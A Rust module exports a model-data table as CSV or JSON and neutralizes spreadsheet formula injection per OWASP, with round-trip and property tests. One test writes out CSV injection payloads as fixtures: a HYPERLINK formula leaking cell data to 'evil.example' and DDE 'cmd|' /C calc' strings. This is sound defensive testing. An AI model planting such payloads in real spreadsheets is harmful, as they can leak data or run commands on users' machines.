//! Downloads: the table's current rows (after filters and sort) with its visible columns and
//! their provenance, as CSV or JSON, in the atlas's own schema so that the atlas can open its
//! own exports again exactly (see `data::import`).
//!
//! # Columns
//!
//! [`export_columns`] lists what a set of visible table columns writes: always `id` and
//! `name` first and `source_url`, `description` and `epoch_name` last, and `date` with
//! `date_precision` (a model has no row without them; an unknown date is written empty, with
//! precision `unknown`); each number with its `*_confidence` and `*_note`; the date with its
//! precision and note; organizations as ids (`organizations`) and display names
//! (`organization_names`), which the organization-derived columns (`country`, `org_type`, of
//! the lead organization) bring along. Lists are `;`-separated in CSV (an item that holds `;`
//! is quoted, see `data::join_list`) and arrays in JSON.
//!
//! # CSV and formula injection
//!
//! Following OWASP's "CSV Injection" guidance, a text cell that starts with `=`, `+`, `-`, `@`,
//! a tab or a carriage return (after leading spaces) is prefixed with a single quote `'` and
//! quoted, so a spreadsheet shows it as text and never evaluates it. A text cell that already
//! starts with `'` gets one too, which makes the rule reversible: the importer removes exactly
//! one leading `'` from text cells of a file in the atlas's own CSV schema when what follows
//! it is text this rule neutralizes (any other `'` is the cell's own), and spreadsheets
//! likewise hide the first `'`. Numbers are written by the atlas itself, never neutralized, and
//! stay numeric (a negative number keeps its `-`). JSON is data, not a spreadsheet, so its
//! strings are written unchanged. The CSV starts with a UTF-8 byte-order mark so spreadsheets
//! read accents correctly; the atlas's loader ignores it.

use std::borrow::Cow;

use crate::data::{Dataset, LoadError, Model, Num, Text};
use crate::query::Column;

/// The columns an export of `columns` writes, in order (see the module documentation).
pub fn export_columns(columns: &[Column]) -> Vec<String> {
    let mut out: Vec<String> = vec!["id".to_owned(), "name".to_owned()];
    let push = |c: String, out: &mut Vec<String>| {
        if !out.contains(&c) {
            out.push(c);
        }
    };
    for &c in columns {
        for k in c.export_columns() {
            push(k, &mut out);
        }
    }
    for c in [
        "date",
        "date_precision",
        "source_url",
        "description",
        "epoch_name",
    ] {
        push(c.to_owned(), &mut out);
    }
    out
}

/// One exported value.
#[derive(Clone, Debug, PartialEq)]
enum Cell {
    Text(String),
    Number(Option<f64>),
    List(Vec<String>),
}

fn cell(ds: &Dataset, m: &Model, column: &str) -> Cell {
    let text = |s: &str| Cell::Text(s.to_owned());
    match column {
        "id" => text(&m.id),
        "name" => text(&m.name),
        "organizations" => Cell::List(m.organizations.clone()),
        "organization_names" => Cell::List(
            m.organizations
                .iter()
                .map(|id| ds.organization(id).map_or(id.as_str(), |o| o.name.as_str()))
                .map(str::to_owned)
                .collect(),
        ),
        "country" => text(ds.country(m)),
        "org_type" => text(ds.org_type(m)),
        "date" => Cell::Text(m.date.map(|d| d.to_string()).unwrap_or_default()),
        "date_precision" => text(m.date_precision.as_str()),
        "tasks" => Cell::List(m.tasks.clone()),
        _ => {
            for &n in Num::ALL {
                let d = n.def();
                let q = m.num(n);
                if column == d.column {
                    return Cell::Number(q.value);
                }
                if let Some(rest) = column.strip_prefix(d.column) {
                    match rest {
                        "_confidence" => return text(q.confidence.as_str()),
                        "_note" => return text(&q.note),
                        _ => {}
                    }
                }
            }
            Text::ALL
                .iter()
                .find(|t| t.def().column == column)
                .map_or(Cell::Text(String::new()), |&t| text(m.text(t)))
        }
    }
}

/// Writes a number so that it reads back exactly: plain digits for ordinary magnitudes
/// (`175000000000`, `0.5`), scientific notation otherwise (`3.14e23`); "" when not finite.
pub fn format_number(v: f64) -> String {
    if !v.is_finite() {
        return String::new();
    }
    let a = v.abs();
    if a == 0.0 || (1e-4..1e15).contains(&a) {
        // Rust writes the shortest digits that parse back to the same value.
        format!("{v}")
    } else {
        format!("{v:e}")
    }
}

/// Whether a spreadsheet could read `text` as a formula (OWASP: a leading `=`, `+`, `-`, `@`,
/// tab or carriage return), or it starts with the `'` that marks neutralized text.
pub fn needs_neutralizing(text: &str) -> bool {
    matches!(
        text.trim_start_matches(' ').chars().next(),
        Some('=' | '+' | '-' | '@' | '\t' | '\r' | '\'')
    )
}

/// The text a spreadsheet must show as text: `'` + `text` when [`needs_neutralizing`].
pub fn neutralize(text: &str) -> Cow<'_, str> {
    if needs_neutralizing(text) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

fn csv_cell(c: &Cell) -> String {
    match c {
        Cell::Text(s) => neutralize(s).into_owned(),
        Cell::Number(v) => v.map(format_number).unwrap_or_default(),
        Cell::List(items) => neutralize(&crate::data::join_list(items)).into_owned(),
    }
}

/// A CSV download of text records (a header, then rows) in the exports' dialect: the BOM, CRLF,
/// every cell neutralized (see [`neutralize`]) and quoted unless it is a number.
pub fn csv_of_records<R, C>(records: impl IntoIterator<Item = R>) -> String
where
    R: IntoIterator<Item = C>,
    C: AsRef<str>,
{
    let mut w = csv_writer();
    for r in records {
        // Writing to a Vec cannot fail.
        let _ = w.write_record(r.into_iter().map(|c| neutralize(c.as_ref()).into_owned()));
    }
    csv_finish(w)
}

/// The byte-order mark the CSV exports start with (for spreadsheets).
pub const BOM: &str = "\u{feff}";

/// A CSV writer of the exports' dialect: CRLF line ends; text fields always quoted (so a
/// neutralized cell is quoted, as OWASP recommends), numbers bare.
fn csv_writer() -> csv::Writer<Vec<u8>> {
    let mut out = Vec::new();
    out.extend_from_slice(BOM.as_bytes());
    csv::WriterBuilder::new()
        .quote_style(csv::QuoteStyle::NonNumeric)
        .terminator(csv::Terminator::CRLF)
        .from_writer(out)
}

/// The writer's text (it only ever holds UTF-8 written from `&str`s).
fn csv_finish(w: csv::Writer<Vec<u8>>) -> String {
    let bytes = w.into_inner().unwrap_or_default();
    String::from_utf8(bytes).unwrap_or_default()
}

/// The rows `rows` of `ds` (in that order) with the export columns of `columns`, as CSV.
pub fn to_csv(ds: &Dataset, rows: &[usize], columns: &[Column]) -> String {
    let cols = export_columns(columns);
    let mut w = csv_writer();
    // Writing to a Vec cannot fail.
    let _ = w.write_record(&cols);
    for m in rows.iter().filter_map(|&i| ds.models.get(i)) {
        let _ = w.write_record(cols.iter().map(|c| csv_cell(&cell(ds, m, c))));
    }
    csv_finish(w)
}

/// A JSON string literal, written by serde_json (serializing a `str` cannot fail).
fn json_str(s: &str) -> String {
    serde_json::to_string(s).unwrap_or_default()
}

/// A JSON value for a cell: numbers in Rust's shortest round-trip form, `null` when unknown.
fn json_cell(c: Cell) -> String {
    match c {
        Cell::Text(s) => json_str(&s),
        Cell::Number(Some(v)) if v.is_finite() => format!("{v:?}"),
        Cell::Number(_) => "null".to_owned(),
        Cell::List(items) => format!(
            "[{}]",
            items
                .iter()
                .map(|i| json_str(i))
                .collect::<Vec<_>>()
                .join(",")
        ),
    }
}

/// The same rows and columns as [`to_csv`], as a JSON array of objects (one per line, keys in
/// column order; numbers as numbers or `null`, lists as arrays; strings unchanged).
pub fn to_json(ds: &Dataset, rows: &[usize], columns: &[Column]) -> String {
    let cols = export_columns(columns);
    let objects: Vec<String> = rows
        .iter()
        .filter_map(|&i| ds.models.get(i))
        .map(|m| {
            let fields: Vec<String> = cols
                .iter()
                .map(|c| format!("{}:{}", json_str(c), json_cell(cell(ds, m, c))))
                .collect();
            format!("{{{}}}", fields.join(","))
        })
        .collect();
    if objects.is_empty() {
        "[]\n".to_owned()
    } else {
        format!("[\n{}\n]\n", objects.join(",\n"))
    }
}

/// The skipped rows of an import as CSV (`file,line,reason`), for download.
pub fn skipped_csv(skipped: &[LoadError]) -> String {
    let header = ["file".to_owned(), "line".to_owned(), "reason".to_owned()];
    csv_of_records(
        std::iter::once(header).chain(
            skipped
                .iter()
                .map(|e| [e.file.clone(), e.line.to_string(), e.reason.clone()]),
        ),
    )
}

#[cfg(all(test, not(target_arch = "wasm32")))]
#[allow(clippy::unwrap_used, clippy::expect_used)] // Test code: a failed assumption is a failed test.
mod tests {
    use super::*;
    use crate::data::{
        fixture, import_text, Confidence, Date, DatePrecision, Format, Organization, Quantity,
        Schema,
    };
    use proptest::prelude::*;

    /// The exported cells of `rows`, in row order.
    fn cells(ds: &Dataset, rows: &[usize], columns: &[Column]) -> Vec<Vec<Cell>> {
        let cols = export_columns(columns);
        rows.iter()
            .filter_map(|&i| ds.models.get(i))
            .map(|m| cols.iter().map(|c| cell(ds, m, c)).collect())
            .collect()
    }

    /// A model as an import gives it back: every field but the source line.
    fn shown(m: &Model) -> Model {
        Model {
            source_line: 0,
            ..m.clone()
        }
    }

    #[test]
    fn export_columns_bring_their_provenance_and_the_identity_columns() {
        assert_eq!(
            export_columns(&[Column::Num(Num::Parameters)]),
            [
                "id",
                "name",
                "parameters",
                "parameters_confidence",
                "parameters_note",
                "date",
                "date_precision",
                "source_url",
                "description",
                "epoch_name"
            ]
        );
        assert_eq!(
            export_columns(&[Column::Country, Column::Date, Column::Organizations]),
            [
                "id",
                "name",
                "organizations",
                "organization_names",
                "country",
                "date",
                "date_precision",
                "date_note",
                "source_url",
                "description",
                "epoch_name"
            ]
        );
        let all = export_columns(&Column::all().collect::<Vec<_>>());
        for c in &all {
            assert!(
                crate::data::schema::atlas_columns().contains(c),
                "{c} is in the atlas schema"
            );
        }
        let mut unique = all.clone();
        unique.sort_unstable();
        unique.dedup();
        assert_eq!(unique.len(), all.len(), "no column twice");
    }

    #[test]
    fn the_fixture_round_trips_through_csv_and_json() {
        let ds = fixture::dataset();
        // A filtered, re-sorted selection, as the table would give it.
        let rows: Vec<usize> = (0..ds.models.len()).rev().filter(|i| i % 2 == 0).collect();
        assert!(rows.len() >= 2);
        for (text, format) in [
            (
                to_csv(&ds, &rows, &Column::all().collect::<Vec<_>>()),
                Format::Csv,
            ),
            (
                to_json(&ds, &rows, &Column::all().collect::<Vec<_>>()),
                Format::Json,
            ),
        ] {
            let imp = import_text("export", &text, None).expect("imports");
            assert_eq!(imp.format, format);
            assert_eq!(imp.mapping.schema, Schema::Atlas);
            assert_eq!(imp.skipped, vec![]);
            assert_eq!(imp.problems, vec![]);
            let back: Vec<usize> = (0..imp.dataset.models.len()).collect();
            assert_eq!(
                cells(&imp.dataset, &back, &Column::all().collect::<Vec<_>>()),
                cells(&ds, &rows, &Column::all().collect::<Vec<_>>())
            );
            let originals: Vec<Model> = rows.iter().map(|&i| shown(&ds.models[i])).collect();
            let imported: Vec<Model> = imp.dataset.models.iter().map(shown).collect();
            assert_eq!(imported, originals, "{format:?}: every shown field");
        }
    }

    #[test]
    fn formulas_arrive_inert_in_a_spreadsheet_and_exact_in_the_atlas() {
        let mut ds = fixture::dataset();
        let evil = "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Click\")";
        {
            let m = &mut ds.models[0];
            m.name = evil.to_owned();
            m.num_mut(Num::Parameters).note = "+cmd|' /C calc'!A0".to_owned();
            *m.text_mut(Text::License) = "-2+3".to_owned();
            *m.text_mut(Text::Hardware) = "@SUM(1+1)*cmd|' /C calc'!A0".to_owned();
            *m.text_mut(Text::TrainingDataset) = "\tTabbed".to_owned();
            *m.text_mut(Text::Architecture) = "'quoted already".to_owned();
            *m.text_mut(Text::DateNote) = "\r=1+1".to_owned();
            m.num_mut(Num::Parameters).value = Some(-5.0);
        }
        let columns: Vec<Column> = Column::all().collect();
        let text = to_csv(&ds, &[0], &columns);
        assert!(text.starts_with(BOM));
        // What a spreadsheet sees: the raw fields.
        let mut reader = csv::ReaderBuilder::new().from_reader(&text.as_bytes()[BOM.len()..]);
        let headers = reader.headers().expect("header").clone();
        let record = reader.records().next().expect("row").expect("csv");
        let raw = |name: &str| {
            let i = headers.iter().position(|h| h == name).expect(name);
            record.get(i).expect("field").to_owned()
        };
        assert_eq!(raw("name"), format!("'{evil}"));
        assert!(
            text.contains("\"'=HYPERLINK(\"\"https://evil.example"),
            "quoted and prefixed"
        );
        assert_eq!(raw("parameters_note"), "'+cmd|' /C calc'!A0");
        assert_eq!(raw("license"), "'-2+3");
        assert_eq!(raw("hardware"), "'@SUM(1+1)*cmd|' /C calc'!A0");
        assert_eq!(raw("training_dataset"), "'\tTabbed");
        assert_eq!(raw("architecture"), "''quoted already");
        assert_eq!(raw("date_note"), "'\r=1+1");
        assert_eq!(
            raw("parameters"),
            "-5",
            "numbers stay numeric, sign and all"
        );
        for field in record.iter() {
            assert!(
                !matches!(field.chars().next(), Some('=' | '+' | '@' | '\t' | '\r'))
                    && (!field.starts_with('-') || field.parse::<f64>().is_ok()),
                "no cell can start a formula: {field:?}"
            );
        }
        // The atlas reads its own export back exactly, but for the negative count, which it
        // lists as a problem instead of reading it.
        let imp = import_text("export.csv", &text, None).expect("imports");
        let m = &imp.dataset.models[0];
        assert_eq!(imp.problems.len(), 1);
        assert!(
            imp.problems[0].reason.contains("is negative"),
            "{}",
            imp.problems[0]
        );
        let mut expected = shown(&ds.models[0]);
        *expected.num_mut(Num::Parameters) = Quantity {
            value: None,
            confidence: Confidence::Reported,
            note: "Negative, so not read: \"-5\". +cmd|' /C calc'!A0".to_owned(),
        };
        assert_eq!(shown(m), expected);
        assert_eq!(m.name, evil);
        // Another file's leading quote is data, not neutralization.
        let other = "Model,Publication date,Notes\n'Tis a model,2020,x\n";
        let imp = import_text("other.csv", other, None).expect("imports");
        assert_eq!(imp.dataset.models[0].name, "'Tis a model");
    }

    #[test]
    fn numbers_are_written_to_read_back_exactly() {
        for v in [
            1.75e11,
            3.14e23,
            0.5,
            1e-7,
            123_456_789_012_345.0,
            1e15,
            -2.5,
            f64::MIN_POSITIVE,
            5e-324,
            f64::MAX,
        ] {
            let s = format_number(v);
            assert_eq!(s.parse::<f64>().ok(), Some(v), "{v} → {s}");
            assert_eq!(crate::data::parse_number(&s), Some(v), "{s}");
        }
        assert_eq!(format_number(1.75e11), "175000000000");
        assert_eq!(format_number(3.14e23), "3.14e23");
        assert_eq!(format_number(f64::NAN), "");
    }

    #[test]
    fn json_is_an_array_of_objects_in_column_order() {
        let ds = fixture::dataset();
        let json = to_json(&ds, &[1, 0], &[Column::Num(Num::Parameters), Column::Tasks]);
        let v: serde_json::Value = serde_json::from_str(&json).expect("valid JSON");
        let arr = v.as_array().expect("array");
        assert_eq!(arr.len(), 2);
        let first = arr[0].as_object().expect("object");
        assert_eq!(first["id"], ds.models[1].id.as_str());
        assert_eq!(
            first["parameters"].as_f64(),
            ds.models[1].value(Num::Parameters)
        );
        assert!(first["tasks"].is_array());
        let keys: Vec<&str> = json
            .lines()
            .nth(1)
            .expect("first object")
            .split("\":")
            .filter_map(|k| k.rsplit('"').next())
            .collect();
        assert_eq!(
            &keys[..export_columns(&[Column::Num(Num::Parameters), Column::Tasks]).len()],
            export_columns(&[Column::Num(Num::Parameters), Column::Tasks]).as_slice()
        );
        assert_eq!(to_json(&ds, &[], &Column::DEFAULT), "[]\n");
    }

    #[test]
    fn skipped_rows_download_neutralizes_reasons() {
        let skipped = vec![
            LoadError::new("f.csv", 3, "expected 4 fields, found 5"),
            LoadError::new("f.csv", 9, "=cmd is not a date"),
        ];
        let text = skipped_csv(&skipped);
        let body = &text[BOM.len()..];
        let mut r = csv::Reader::from_reader(body.as_bytes());
        let rows: Vec<Vec<String>> = r
            .records()
            .map(|x| x.expect("csv").iter().map(str::to_owned).collect())
            .collect();
        assert_eq!(rows.len(), 2);
        assert_eq!(rows[0], ["f.csv", "3", "expected 4 fields, found 5"]);
        assert_eq!(rows[1], ["f.csv", "9", "'=cmd is not a date"]);
    }

    /// Any character, often one of those that need care in CSV, JSON or a list: `;`, NUL,
    /// quotes, line ends, a formula's first character, the byte-order mark.
    fn character() -> impl Strategy<Value = char> {
        prop_oneof![
            any::<char>(),
            proptest::sample::select(vec![
                ';', '\0', '"', '\'', '\n', '\r', '\t', ',', ' ', '=', '+', '-', '@', '\\',
                '\u{feff}', '\u{2028}', 'é', '{', '}', '[', ']',
            ]),
            "[a-zA-Z0-9]".prop_map(|s| s.chars().next().unwrap_or('a')),
        ]
    }

    // Values the loader keeps as they are: trimmed (every cell is), any character.
    fn text() -> impl Strategy<Value = String> {
        proptest::collection::vec(character(), 0..10)
            .prop_map(|cs| cs.into_iter().collect::<String>().trim().to_owned())
    }

    // List items: non-empty, trimmed.
    fn item() -> impl Strategy<Value = String> {
        text().prop_filter("non-empty", |s| !s.is_empty())
    }

    // Every number of the schema is a count or an amount: not negative.
    fn number() -> impl Strategy<Value = Option<f64>> {
        proptest::option::of(prop_oneof![
            proptest::num::f64::POSITIVE | proptest::num::f64::NORMAL,
            proptest::num::f64::POSITIVE | proptest::num::f64::SUBNORMAL,
            proptest::num::f64::ZERO,
            (0u64..1_000_000_000_000).prop_map(|n| n as f64),
        ])
    }

    fn quantity() -> impl Strategy<Value = Quantity> {
        (
            number(),
            prop_oneof![
                Just(Confidence::Reported),
                Just(Confidence::Estimated),
                Just(Confidence::Unknown)
            ],
            text(),
        )
            .prop_map(|(value, confidence, note)| Quantity {
                value,
                confidence,
                note,
            })
    }

    fn model() -> impl Strategy<Value = Model> {
        let org_ids = proptest::collection::vec(0usize..4, 0..3);
        // Some models have no date (Epoch AI's full export has such rows).
        let date = proptest::option::of((1950i32..2030, 1u8..=12, 1u8..=28, 0usize..3));
        (
            item(),
            org_ids,
            date,
            proptest::collection::vec(item(), 0..3),
            proptest::collection::vec(quantity(), Num::COUNT),
            proptest::collection::vec(text(), Text::COUNT),
        )
            .prop_map(|(name, orgs, date, tasks, qs, ts)| {
                let (date, date_precision) = match date {
                    Some((y, mo, d, p)) => (
                        Some(Date::new(y, mo, d).expect("valid date")),
                        [
                            DatePrecision::Day,
                            DatePrecision::Month,
                            DatePrecision::Year,
                        ][p],
                    ),
                    None => (None, DatePrecision::Unknown),
                };
                let mut m = Model {
                    id: String::new(),
                    name,
                    organizations: orgs.into_iter().map(|i| format!("org-{i}")).collect(),
                    date,
                    date_precision,
                    tasks,
                    nums: Default::default(),
                    texts: Default::default(),
                    source_line: 0,
                };
                for (&n, q) in Num::ALL.iter().zip(qs) {
                    *m.num_mut(n) = q;
                }
                for (&t, v) in Text::ALL.iter().zip(ts) {
                    *m.text_mut(t) = v;
                }
                m
            })
    }

    fn dataset() -> impl Strategy<Value = Dataset> {
        let orgs = proptest::collection::vec((item(), text(), text()), 4);
        (
            proptest::collection::vec(model(), 1..8),
            orgs,
            "[a-z0-9=@'+-]{1,6}",
        )
            .prop_map(|(models, orgs, id_base)| {
                let models = models
                    .into_iter()
                    .enumerate()
                    .map(|(i, m)| Model {
                        id: format!("{id_base}{i}"),
                        ..m
                    })
                    .collect();
                // org-3 is left out: an id without an organization entry.
                let organizations = orgs
                    .into_iter()
                    .take(3)
                    .enumerate()
                    .map(|(i, (name, country, kind))| Organization {
                        id: format!("org-{i}"),
                        name,
                        country,
                        kind,
                        description: String::new(),
                        url: String::new(),
                        source_line: 0,
                    })
                    .collect();
                Dataset::from_models(models, organizations)
            })
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(128))]
        #[test]
        fn export_then_import_is_lossless(
            (ds, rows, columns) in dataset().prop_flat_map(|ds| {
                let n = ds.models.len();
                (
                    Just(ds),
                    proptest::sample::subsequence((0..n).collect::<Vec<_>>(), 1..=n).prop_shuffle(),
                    proptest::sample::subsequence(Column::all().collect::<Vec<_>>(), 0..=Column::all().count()).prop_shuffle(),
                )
            }),
            chunk in 1usize..300,
        ) {
            for (text, format) in [
                (to_csv(&ds, &rows, &columns), Format::Csv),
                (to_json(&ds, &rows, &columns), Format::Json),
            ] {
                // Read it in slices, as the browser does.
                let mut importer = crate::data::Importer::new("export", None, crate::data::Limits::default())
                    .expect("new");
                for piece in text.as_bytes().chunks(chunk) {
                    importer.feed(piece).expect("feed");
                }
                let imp = importer.finish().expect("imports");
                prop_assert_eq!(imp.format, format);
                prop_assert_eq!(imp.mapping.schema, Schema::Atlas);
                prop_assert_eq!(&imp.skipped, &vec![]);
                prop_assert_eq!(&imp.problems, &vec![]);
                let back: Vec<usize> = (0..imp.dataset.models.len()).collect();
                prop_assert_eq!(cells(&imp.dataset, &back, &columns), cells(&ds, &rows, &columns));
                if columns.len() == Column::all().count() {
                    let originals: Vec<Model> = rows.iter().map(|&i| shown(&ds.models[i])).collect();
                    let imported: Vec<Model> = imp.dataset.models.iter().map(shown).collect();
                    prop_assert_eq!(imported, originals);
                }
            }
        }
    }
}
